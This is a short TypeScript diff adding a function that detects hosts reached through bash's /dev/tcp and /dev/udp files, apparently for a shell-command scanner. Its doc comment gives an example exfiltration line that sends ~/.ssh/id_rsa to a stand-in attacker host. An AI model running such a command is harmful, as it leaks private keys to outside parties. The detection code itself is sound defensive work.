@@ -181,3 +181,11 @@ function closingParen(line: string, from: number): number {
   }
   return -1;
 }
+
+/**
+ * The hosts a shell line connects to through bash's `/dev/tcp/host/port` and `/dev/udp/…` files
+ * (`cat ~/.ssh/id_rsa > /dev/tcp/evil.example/443`), undefined for one worked out at run time.
+ */
+export function shellConnections(line: string): (string | undefined)[] {
+  return [...line.matchAll(/\/dev\/(?:tcp|udp)\/([^/\s'"]*)/g)].map(([, host]) => (!host || host.includes("$") || host.includes("…") ? undefined : host.toLowerCase()));
+}
